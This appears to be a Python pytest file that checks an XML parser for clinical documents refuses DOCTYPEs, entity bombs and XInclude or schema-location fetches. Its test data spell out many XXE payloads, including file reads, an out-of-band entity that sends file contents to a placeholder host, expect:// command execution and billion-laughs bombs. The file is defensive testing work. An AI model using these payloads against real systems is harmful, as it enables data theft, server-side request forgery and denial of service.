"""Rows 38, 39 and 42 of the attacks: a DOCTYPE is refused where it stands, and nothing is fetched by anything else."""

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dmp_core.errors import XmlRefused
from dmp_core.xml import parse

DOCTYPES = {
    "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]><a>&x;</a>',
    "file without scheme": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]><a>&x;</a>',
    "http": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://{address}/x">]><a>&x;</a>',
    "https": '<!DOCTYPE a [<!ENTITY x SYSTEM "https://{address}/x">]><a>&x;</a>',
    "ftp": '<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://{address}/x">]><a>&x;</a>',
    "jar": '<!DOCTYPE a [<!ENTITY x SYSTEM "jar:http://{address}/a.jar!/x">]><a>&x;</a>',
    "netdoc": '<!DOCTYPE a [<!ENTITY x SYSTEM "netdoc:{file}">]><a>&x;</a>',
    "expect": '<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]><a>&x;</a>',
    "php filter": '<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={file}">]><a>&x;</a>',
    "in an attribute": '<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://{address}/evil.dtd"> %p;]><a/>',
    "parameter entity of a file": '<!DOCTYPE a [<!ENTITY % p SYSTEM "file://{file}"> %p;]><a/>',
    "out of band": '<!DOCTYPE a [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
    "'http://{address}/?%f;'>\">%e;%s;]><a/>",
    "external subset": '<!DOCTYPE a SYSTEM "http://{address}/a.dtd"><a/>',
    "external subset of a file": '<!DOCTYPE a SYSTEM "file://{file}"><a/>',
    "public": '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://{address}/a.dtd"><a/>',
    "unused": "<!DOCTYPE a><a/>",
    "an internal entity": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
    "attribute defaults": '<!DOCTYPE a [<!ATTLIST a ID ID "x">]><a/>',
    "notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "{file}"><!ENTITY x SYSTEM "{file}" NDATA n>]><a/>',
    "after a declaration": '<?xml version="1.0"?><!DOCTYPE a><a/>',
    "after a comment": "<!-- <a/> --><!DOCTYPE a><a/>",
    "after an instruction": "<?pi <a/> ?>\n<!DOCTYPE a><a/>",
    "after a comment that ends at once": "<!----><!DOCTYPE a><a/>",
    "after blanks": "\r\n\t <!DOCTYPE a><a/>",
    "after a mark": "\ufeff<!DOCTYPE a><a/>",
    "over lines": "<!DOCTYPE\na\n[\n]\n>\n<a/>",
    "in lower case": "<!doctype a><a/>",
    "after the root": '<a/><!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]>',
    "inside the root": '<a><!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]>&x;</a>',
    "an entity without it": "<a>&x;</a>",
}
BOMBS = {
    "billion laughs": "<!DOCTYPE a [<!ENTITY x0 'ha'>"
    + "".join(f"<!ENTITY x{n} '{f'&x{n - 1};' * 10}'>" for n in range(1, 10))
    + "]><a>&x9;</a>",
    "quadratic": f"<!DOCTYPE a [<!ENTITY x '{'h' * 50_000}'>]><a>{'&x;' * 50_000}</a>",
    "recursive": "<!DOCTYPE a [<!ENTITY x '&y;'><!ENTITY y '&x;'>]><a>&x;</a>",
    "in an attribute": "<!DOCTYPE a [<!ENTITY x0 'ha'>"
    + "".join(f"<!ENTITY x{n} '{f'&x{n - 1};' * 10}'>" for n in range(1, 10))
    + '>]><a b="&x9;"/>',
    "parameter entities": "<!DOCTYPE a [<!ENTITY % p0 'ha'>"
    + "".join(f"<!ENTITY % p{n} '{f'%p{n - 1};' * 10}'>" for n in range(1, 10))
    + "%p9;]><a/>",
}
ADDRESSES = {
    "XInclude of a file": '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="{file}" parse="text"/></ClinicalDocument>',
    "XInclude of an address": '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="http://{address}/"/></ClinicalDocument>',
    "xml:base": '<ClinicalDocument xmlns="urn:hl7-org:v3" xml:base="http://{address}/"><a href="b"/>'
    "</ClinicalDocument>",
    "schemaLocation": '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:schemaLocation="urn:hl7-org:v3 http://{address}/a.xsd urn:x {file}"><b xmlns="urn:x"/></ClinicalDocument>',
    "noNamespaceSchemaLocation": '<b xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
    'xsi:noNamespaceSchemaLocation="file://{file}"/>',
    "xml-stylesheet": '<?xml-stylesheet href="file://{file}" type="text/xsl"?>'
    '<ClinicalDocument xmlns="urn:hl7-org:v3"/>',
    "xml-model": '<?xml-model href="http://{address}/a.rng"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
}


@pytest.mark.parametrize("kind", [pytest.param(kind, id=f"row-038 {kind}") for kind in DOCTYPES])
def test_a_doctype_of_any_kind_is_refused(kind: str, secret: Any) -> None:
    document = secret.filled(DOCTYPES[kind])

    for data in (document, document.decode().encode("utf-16")):
        with pytest.raises(XmlRefused) as refused:
            parse(data)
        assert "the-secret" not in refused.value.detail
    assert not secret.was_called()


@pytest.mark.parametrize("documents", [pytest.param([*DOCTYPES.values()], id="row-038 no file, no socket")])
def test_no_doctype_makes_us_open_a_file_or_a_socket(
    documents: list[str], opened: Callable[[str, list[str]], list[str]]
) -> None:
    assert opened("ours", documents) == []


def test_a_naive_parser_would_be_caught(opened: Callable[[str, list[str]], list[str]]) -> None:
    calls = opened("naive", [DOCTYPES["file"], ADDRESSES["XInclude of a file"]])

    assert any("secret.txt" in call for call in calls), "the proof must be able to fail"


@pytest.mark.parametrize("kind", [pytest.param(kind, id=f"row-039 {kind}") for kind in BOMBS])
def test_an_entity_bomb_is_refused_before_it_goes_off(
    kind: str, limited: Callable[[bytes, int], dict[str, Any]]
) -> None:
    answer = limited(BOMBS[kind].encode(), 10)

    assert answer["refused"] == "a DOCTYPE is never accepted"


@pytest.mark.parametrize(
    "documents", [pytest.param([*ADDRESSES.values()], id="row-042 XInclude, xml:base, schemaLocation")]
)
def test_what_names_an_address_is_ignored_and_nothing_is_fetched(
    documents: list[str], secret: Any, opened: Callable[[str, list[str]], list[str]]
) -> None:
    read = [parse(secret.filled(document)) for document in documents]

    assert len(read) == len(documents)
    assert opened("ours", documents) == []
    assert not secret.was_called()


PROLOG = st.sampled_from(
    [
        "<!--",
        "-->",
        "-",
        ">",
        "<?p",
        "?>",
        "<!DOCTYPE a>",
        "<!DOCTYPE a [",
        "]>",
        " ",
        "\n",
        "<a/>",
        "<",
        "!",
        "<a>",
        "</a>",
    ]
)


@given(st.lists(PROLOG, max_size=12).map("".join))
def test_whatever_stands_before_the_root_no_tree_has_a_doctype(text: str) -> None:
    try:
        root = parse(text.encode())
    except XmlRefused:
        return

    assert root.getroottree().docinfo.internalDTD is None
